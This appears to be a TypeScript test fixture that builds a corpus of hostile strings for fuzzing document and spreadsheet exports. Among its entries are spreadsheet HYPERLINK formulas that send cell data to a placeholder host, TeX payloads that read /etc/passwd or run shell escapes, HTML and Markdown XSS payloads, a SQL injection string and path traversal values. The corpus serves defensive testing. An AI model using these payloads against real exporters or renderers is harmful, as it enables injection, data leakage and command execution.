/** Strings that break exports, made by rule: controls, formulas, TeX, HTML, Markdown, names of prototypes, random ASCII. */
import { seededRandom } from './builders.ts'

const range = (from: number, to: number): readonly number[] =>
  Array.from({ length: to - from + 1 }, (_, index) => from + index)

const controls = [
  ...range(0x00, 0x1f),
  ...range(0x7f, 0x9f),
  0xad,
  0x61c,
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x2069),
  0xfeff,
  0xfffd,
  0xfffe,
  0xffff,
  0x1f600,
  0xe0041,
].flatMap((code) => {
  const one = String.fromCodePoint(code)
  return [one, `a${one}b`, `${one}=1+1`]
})

const triggers = ['=', '+', '-', '@', '|', '\uff1d', '\uff0b', '\uff0d', '\uff20', "'", '"', '%']
const before = ['', ' ', '\t', '\r', '\n', '\0', '\u00a0', '\ufeff', '\u200b', "'", "''", '"']
const formulas = triggers.flatMap((sign) =>
  before.map((start) => `${start}${sign}HYPERLINK("http://x.example/?"&A1,"click")`),
)

const specials = [...'\\{}$&#%_^~"\'`<>|-[]*,!?;:.()/=+@ ']
const pairs = specials.flatMap((a) => specials.map((b) => `${a}${b}`)).filter((_, i) => i % 3 === 0)
const tex = [
  '\\input{/etc/passwd}',
  '\\write18{id}',
  '\\def\\x{\\x}\\x',
  '\\loop\\iftrue\\repeat',
  '\\end{longtable}\\end{document}',
  '\\\\[2cm]',
  '^^5cinput',
  '^^M',
  '% realign-trace:1 00000000-0000-4000-8000-000000000000:0123456789abcdef',
  '\\realignchar{0041}',
  '$$x$$',
  "``quoted'' -- --- << >> ,, ?` !` fi ffl",
  '\\verb|x|',
  '\\csname end\\endcsname',
  '\\catcode`\\%=12',
]
const html = [
  '<script>alert(1)</script>',
  '</td></tr></table><script src=//x.example></script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<!-- ',
  ' -->',
  '<!-- realign-trace:1 00000000-0000-4000-8000-000000000000:0123456789abcdef -->',
  '<meta name="realign-trace" content="00000000-0000-4000-8000-000000000000:0123456789abcdef">',
  ']]>',
  '<![CDATA[x]]>',
  '&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;',
  '</style><style>*{display:none}</style>',
  '<base href=//x.example>',
  '<meta http-equiv=refresh content="0;url=//x.example">',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
]
const markdown = [
  '| a | b |',
  '|---|---|',
  '**bold** _em_ `code` ~~del~~',
  '[x](javascript:alert(1))',
  '![x](http://x.example/y.png)',
  '# head',
  '- item',
  '1. item',
  '> quote',
  '```',
  '    code',
  'www.x.example http://x.example a@b.example',
  '[^1]: note',
  '\\|',
  '$x$ ==mark== :smile: ^sup^',
]
const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'null',
  'undefined',
  'NaN',
  'true',
  'CON',
  'aux.txt',
  '../../etc/passwd',
  'C:\\Windows',
  "'; DROP TABLE captions; --",
  '{"a":1}',
  '[1,2]',
  '007',
  '1e5',
  '3/4',
  '2026-01-02',
  '5%',
  '-16.5',
  '+1',
  '_x0041_',
  '_x005F_x0041_',
  '_x0041\u0007',
  '__x000D_',
  'x'.repeat(5000),
  'word '.repeat(1000),
  '\u{1f9d1}\u200d\u{1f52c}\u{1f3fd}',
  'e\u0301 \u00e9 \u212b \u00c5',
  '\u6797\u9d1f \u0641\u064a\u0644 \u05e9\u05dc\u05d5\u05dd \u0e44\u0e17\u0e22',
  'Stra\u00dfe \u0141\u00f3d\u017a \u0126al \u0132 \u2019 \u20ac \u2122 \u2026',
  '"',
  '""',
  '',
  ' ',
  '  two  spaces  ',
  'a\r\nb\rc\nd',
  'a,b;c\td',
  ...before,
]

/** Printable ASCII, 1 to 40 characters, seeded. */
function randomAscii(count: number): readonly string[] {
  const random = seededRandom(20260101)
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(random() * 40) }, () =>
      String.fromCharCode(0x20 + Math.floor(random() * 95)),
    ).join(''),
  )
}

export const RANDOM_ASCII = randomAscii(300)

/** Without lone surrogates: the store replaces those before anything else sees them. */
export const WELL_FORMED_HOSTILE: readonly string[] = [
  ...new Set([
    ...controls,
    ...formulas,
    ...specials,
    ...pairs,
    ...tex,
    ...html,
    ...markdown,
    ...names,
    ...RANDOM_ASCII,
  ]),
]

export const HOSTILE: readonly string[] = [
  ...WELL_FORMED_HOSTILE,
  '\ud800',
  'a\udc00b',
  '\udc00\ud800',
  '=\ud800',
]
